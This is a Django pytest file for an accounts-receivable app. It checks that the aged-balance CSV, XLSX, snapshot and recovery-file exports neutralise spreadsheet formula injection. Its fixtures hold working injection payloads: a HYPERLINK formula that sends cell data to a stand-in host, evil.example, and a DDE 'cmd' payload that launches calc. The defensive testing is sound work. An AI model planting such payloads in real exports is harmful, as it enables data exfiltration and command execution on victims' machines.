"""Finding of issue #12: the aged balance (web CSV and XLSX, monthly snapshot, command
line) wrote a customer named ``=HYPERLINK(…)`` as a live formula. Every export now goes
through core.exports: the hostile text is neutralised, the negative amount stays a number."""

import datetime
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from customers.models import UserPreferences
from receivables import snapshots
from reminders.letters.recovery import build_recovery_file
from tests.factories import CustomerFactory, make_invoice, make_payment

pytestmark = [pytest.mark.django_db]
d = datetime.date
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
EVIL_REF = "@411EVIL"
EN = {"HTTP_ACCEPT_LANGUAGE": "en"}


@pytest.fixture
def hostile(sales_user):
    """As of 31 March 2026: the customer owes 100.00 (due 9 Feb, 50 days late) and 0.01
    (due 31 Jan) and has paid 130.00, 29.99 more than it owed: a credit of -29.99."""
    customer = CustomerFactory(customer_ref=EVIL_REF, name=EVIL_NAME, sales_rep=sales_user)
    invoice = make_invoice(
        customer, number="-1+1", issue_date=d(2026, 1, 10), due_date=d(2026, 2, 9), amount="100"
    )
    make_invoice(
        customer, number="OK1", issue_date=d(2026, 1, 1), due_date=d(2026, 1, 31), amount="0.01"
    )
    make_payment(customer, date=d(2026, 3, 1), amount="130.00", reference="=cmd|'/C calc'!A0")
    return customer, invoice


EXPECTED_EN = (
    "customer_ref,customer_name,not_due,d1_30,d31_60,d61_90,d90_plus,total\n"
    + "'"
    + EVIL_REF
    + ",\"'"
    + EVIL_NAME.replace('"', '""')
    + '"'
    + ",-29.99,0.00,0.00,0.00,0.00,-29.99\n"
    + "TOTAL,,-29.99,0.00,0.00,0.00,0.00,-29.99\n"
)


def test_command_line_csv_is_neutralised(hostile):
    out = io.StringIO()
    call_command("aged_balance", "--as-of", "2026-03-31", stdout=out)
    assert out.getvalue() == EXPECTED_EN


def test_web_csv_is_neutralised_in_english_and_french(client, finance_user, hostile):
    client.force_login(finance_user)
    url = reverse("receivables:aged_balance_csv")
    response = client.get(url, {"as_of": "2026-03-31"}, **EN)
    assert response.content.decode() == EXPECTED_EN
    UserPreferences.objects.update_or_create(user=finance_user, defaults={"language": "fr"})
    lines = client.get(url, {"as_of": "2026-03-31"}).content.decode("utf-8-sig").splitlines()
    assert lines[1].startswith(f"'{EVIL_REF};\"'=HYPERLINK(")
    assert lines[1].endswith(";-29,99;0,00;0,00;0,00;0,00;-29,99")  # numbers, not '-29,99


def _check_workbook(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    ref, name, not_due = ws["A2"], ws["B2"], ws["C2"]
    assert (ref.value, name.value) == (EVIL_REF, EVIL_NAME)
    assert ref.data_type == name.data_type == "s"
    assert ref.quotePrefix and name.quotePrefix
    assert not_due.data_type == "n"
    assert Decimal(str(not_due.value)) == Decimal("-29.99")


def test_web_xlsx_stores_text_not_formulas(client, finance_user, hostile):
    client.force_login(finance_user)
    response = client.get(reverse("receivables:aged_balance_xlsx"), {"as_of": "2026-03-31"})
    assert response.status_code == 200
    _check_workbook(response.content)


@pytest.mark.clock("2026-04-02")
def test_snapshot_downloads_are_neutralised(client, manager_user, hostile):
    snapshot = snapshots.snapshot_take_month_end(today=d(2026, 4, 1))
    client.force_login(manager_user)
    csv_response = client.get(reverse("reports:snapshot_csv", args=[snapshot.pk]), **EN)
    assert csv_response.content.decode() == EXPECTED_EN
    xlsx_response = client.get(reverse("reports:snapshot_xlsx", args=[snapshot.pk]))
    _check_workbook(xlsx_response.content)


@pytest.mark.clock("2026-04-02")
def test_recovery_file_csvs_use_the_same_writer(hostile):
    customer, _invoice = hostile
    with zipfile.ZipFile(io.BytesIO(build_recovery_file(customer=customer))) as archive:
        invoices = archive.read("01-factures.csv").decode().splitlines()
        statement = archive.read("02-releve-de-compte.csv").decode().splitlines()
    assert any(line.startswith("'-1+1,") for line in invoices)
    assert any(line.startswith("OK1,") for line in invoices)
    assert [line.split(",")[-1] for line in statement[1:]] == ["0.01", "100.01", "-29.99"]
